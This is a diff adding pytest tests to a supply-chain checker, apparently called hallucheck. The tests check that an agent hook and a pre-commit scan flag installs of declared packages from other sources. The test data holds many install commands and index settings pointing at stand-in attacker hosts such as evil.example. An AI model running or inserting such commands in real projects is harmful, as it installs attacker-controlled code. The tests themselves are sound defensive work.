@@ -245,3 +245,171 @@ def test_source_options_are_a_set(options: list[tuple[str, str]], order: Any) ->
 
 def test_a_direct_reference_ignores_the_indexes() -> None:
     assert source(f"x @ https://host/x.whl --index-url {EVIL}") == "https://host/x.whl"
+
+
+# --- install commands: in files and in the agent hook ------------------------------------------------------------
+
+MOVED_COMMANDS = {
+    "--index-url": f"pip install --index-url {EVIL} requests",
+    "-i": f"pip install -i {EVIL} requests",
+    "-i attached": f"pip install -i{EVIL} requests",
+    "--extra-index-url": f"python -m pip install --extra-index-url={EVIL} requests",
+    "--find-links": "pip install --find-links https://evil.example/wheels requests",
+    "-f": "pip3 install -f https://evil.example/wheels requests",
+    "--trusted-host": "pip install --trusted-host evil.example requests",
+    "uv --index": f"uv pip install --index {EVIL} requests",
+    "uv --default-index": f"uv pip install --default-index {EVIL} requests",
+    "uv add --index": f"uv add --index {EVIL} requests",
+    "name @ url": "pip install 'requests @ https://evil.example/requests-2.0-py3-none-any.whl'",
+    "bare wheel url": "pip install https://evil.example/requests-2.0-py3-none-any.whl",
+    "git+https": "pip install git+https://github.com/evil/requests",
+    "-e git+https#egg": "pip install -e git+https://github.com/evil/x#egg=requests",
+    "local wheel": "pip install ./wheels/requests-2.0-py3-none-any.whl",
+    "local sdist": "pip install dist/requests-2.0.tar.gz",
+    "poetry add --source": "poetry add --source private requests",
+    "conda -c": "conda install -c evilchan rich",
+}
+PASSING_COMMANDS = {
+    "declared, from the index": "pip install requests",
+    "the default index written out": "pip install -i https://pypi.org/simple requests",
+    "a local directory": "pip install -e .",
+    "constraints are no source": "pip install -c constraints.txt requests",
+    "conda-forge": "conda install -c conda-forge rich",
+}
+HOOK_BASE = '[project]\nname = "myapp"\nversion = "1"\ndependencies = ["requests", "rich"]\n'
+
+
+def _hook(payload: dict[str, Any], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> str:
+    from tests.test_install_check_git import answer
+
+    return answer(payload, monkeypatch, capsys)
+
+
+@pytest.mark.parametrize(("case", "shape"), [(case, shape) for case in MOVED_COMMANDS
+                                              for shape in ("claude", "codex", "cursor")])
+def test_the_hook_asks_about_a_declared_name_from_another_source(
+    repo: Repo, case: str, shape: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.test_install_check_git import SHAPES
+
+    repo.commit({"pyproject.toml": HOOK_BASE})
+    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
+    assert _hook(SHAPES[shape](MOVED_COMMANDS[case], repo.root), monkeypatch, capsys) == "ask"
+
+
+@pytest.mark.parametrize("case", PASSING_COMMANDS)
+def test_the_hook_runs_a_declared_name_from_its_declared_source(
+    repo: Repo, case: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.test_install_check_git import claude
+
+    repo.commit({"pyproject.toml": HOOK_BASE})
+    assert _hook(claude(PASSING_COMMANDS[case], repo.root), monkeypatch, capsys) == "run"
+
+
+@pytest.mark.parametrize(("declared", "command"), [
+    (f"--extra-index-url {TORCH}\ntorch\n", f"pip install torch --extra-index-url {TORCH}"),
+    (f"--extra-index-url {TORCH}\ntorch\n", f"pip install torchvision --extra-index-url {TORCH}"),  # same index
+    ("requests @ https://host.example/requests-2.0-py3-none-any.whl\n",
+     "pip install 'requests @ https://host.example/requests-2.0-py3-none-any.whl'"),
+])
+def test_a_source_the_project_already_uses_runs(
+    repo: Repo, declared: str, command: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.test_install_check_git import claude
+
+    repo.commit({"pyproject.toml": HOOK_BASE, "requirements.txt": declared})
+    assert _hook(claude(command, repo.root), monkeypatch, capsys) == "run"
+
+
+def test_an_approval_of_the_source_lets_the_hook_run(
+    repo: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.test_install_check_git import claude
+
+    command = f"pip install --index-url {EVIL} requests"
+    repo.commit({"pyproject.toml": HOOK_BASE + _approval("requests", f"requests --index-url {EVIL}")})
+    assert _hook(claude(command, repo.root), monkeypatch, capsys) == "run"
+    assert _hook(claude(f"pip install --extra-index-url {EVIL} requests", repo.root), monkeypatch, capsys) == "ask"
+
+
+@pytest.mark.parametrize("case", MOVED_COMMANDS)
+def test_an_added_install_command_from_another_source_is_reviewed(repo: Repo, run: Any, case: str) -> None:
+    """The same commands written into a Dockerfile a change adds; committed, files mode shows none of them."""
+    repo.commit({"pyproject.toml": HOOK_BASE})
+    repo.stage({"Dockerfile": f"FROM python:3.12\nRUN {MOVED_COMMANDS[case]}\n"})
+    outcome = run()
+    assert outcome.code == 1 and "HC040" in outcome.codes(), outcome.out
+    repo.commit(message="docker")
+    outcome = run("--all-files")
+    assert outcome.code == 0 and "HC040" not in outcome.codes(), outcome.out
+
+
+def test_a_committed_pytorch_index_in_ci_is_no_finding(repo: Repo, run: Any) -> None:
+    workflow = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
+                f"      - run: pip install torch torchvision --extra-index-url {TORCH}\n")  # fmt: skip
+    repo.commit({"pyproject.toml": HOOK_BASE.replace('"rich"', '"rich", "torch"'), ".github/workflows/ci.yml": workflow,
+                 "Dockerfile": f"FROM python:3.12\nRUN pip install --index-url {TORCH} torch\n"})  # fmt: skip
+    outcome = run("--all-files")
+    assert outcome.code == 0 and outcome.codes() == [], outcome.out
+
+
+# --- sources set outside the manifests (HC043) --------------------------------------------------------------------
+
+SETTINGS = {
+    "pip.conf index-url": ("pip.conf", "[global]\ntimeout = 5\n", f"[global]\ntimeout = 5\nindex-url = {EVIL}\n"),
+    "pip.ini extra-index-url (continued)": ("pip.ini", "[global]\n",
+                                            f"[global]\nextra-index-url =\n    {TORCH}\n    {EVIL}\n"),
+    "pip.conf trusted-host": ("config/pip.conf", "[install]\n", "[install]\ntrusted-host = evil.example\n"),
+    "uv.toml index-url": ("uv.toml", "", f'index-url = "{EVIL}"\n'),
+    "uv.toml [[index]]": ("uv.toml", "", f'[[index]]\nname = "e"\nurl = "{EVIL}"\n'),
+    "uv.toml [pip] extra": ("uv.toml", "[pip]\n", f'[pip]\nextra-index-url = [\n  "{EVIL}",\n]\n'),
+    "workflow env": (".github/workflows/ci.yml", "on: push\n",
+                     f"on: push\nenv:\n  PIP_INDEX_URL: {EVIL}\njobs: {{}}\n"),
+    "workflow step env": (".github/workflows/ci.yml", "on: push\n",
+                          "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: pip install -r r.txt\n"
+                          f"        env:\n          PIP_EXTRA_INDEX_URL: \"{EVIL}\"\n"),
+    "Dockerfile ENV": ("Dockerfile", "FROM python:3.12\n", f"FROM python:3.12\nENV UV_INDEX_URL={EVIL}\n"),
+    "Dockerfile ENV, space form": ("Dockerfile", "FROM python:3.12\n", f"FROM python:3.12\nENV UV_INDEX {EVIL}\n"),
+    "Dockerfile ARG": ("Dockerfile", "FROM python:3.12\n", f"FROM python:3.12\nARG PIP_INDEX_URL={EVIL}\n"),
+    "tox setenv": ("tox.ini", "[testenv]\ncommands = pytest\n",
+                   f"[testenv]\nsetenv =\n    PIP_EXTRA_INDEX_URL = {EVIL}\ncommands = pytest\n"),
+    "shell export": ("scripts/setup.sh", "#!/bin/sh\n", f"#!/bin/sh\nexport UV_DEFAULT_INDEX=\"{EVIL}\"\n"),
+    "from a secret": (".github/workflows/ci.yml", "on: push\n",
+                      "on: push\nenv:\n  PIP_INDEX_URL: ${{ secrets.INDEX }}\njobs: {}\n"),
+}
+
+
+@pytest.mark.parametrize("case", SETTINGS)
+def test_a_source_set_outside_the_manifests_is_reviewed(repo: Repo, run: Any, case: str) -> None:
+    path, before, after = SETTINGS[case]
+    repo.commit({"pyproject.toml": HOOK_BASE, path: before})
+    repo.stage({path: after})
+    outcome = run()
+    assert outcome.code == 1 and "HC043" in outcome.codes(), outcome.out
+    # Committed, it is the project's own choice: files mode and an unrelated later change see nothing.
+    repo.commit(message="source")
+    assert "HC043" not in run("--all-files").codes()
+    repo.stage({path: after + ("\n" if path.endswith((".conf", ".ini", ".toml")) else "# more\n")})
+    assert "HC043" not in run().codes()
+
+
+def test_a_confirmed_source_passes_with_the_relaxation_shown(repo: Repo, run: Any) -> None:
+    """pip.conf and Dockerfile ENV take no comment after a value: the directive goes on the line above."""
+    repo.commit({"pyproject.toml": HOOK_BASE, "Dockerfile": "FROM python:3.12\n"})
+    repo.stage({"pip.conf": f"[global]\n# hallucheck: ignore[HC043]\nindex-url = {EVIL}\n",
+                "Dockerfile": f"FROM python:3.12\n# hallucheck: ignore[HC043]\nENV PIP_INDEX_URL={EVIL}\n"})
+    outcome = run()
+    assert outcome.code == 0 and outcome.codes() == ["HC101", "HC101"], outcome.out
+
+
+def test_settings_are_read_with_their_lines() -> None:
+    from hallucheck.sources.index_settings import config_settings, environment_settings
+
+    pip = config_settings(f"[global]\nindex-url = https://user:tok@host.example/simple\nextra-index-url =\n"
+                          f"    {TORCH}\n    {EVIL}\ntimeout = 5\n    https://not.a.setting\n")
+    assert [(item.line, item.setting, item.value) for item in pip] == [
+        (2, "index-url", "https://***@host.example/simple"), (4, "extra-index-url", TORCH),
+        (5, "extra-index-url", EVIL)]
+    found = environment_settings(f"ENV A=1 PIP_INDEX_URL={EVIL} B=2\nrun: PIP_INDEX_URL_X=1 pip install x\n")
+    assert [(item.line, item.setting, item.value) for item in found] == [(1, "PIP_INDEX_URL", EVIL)]
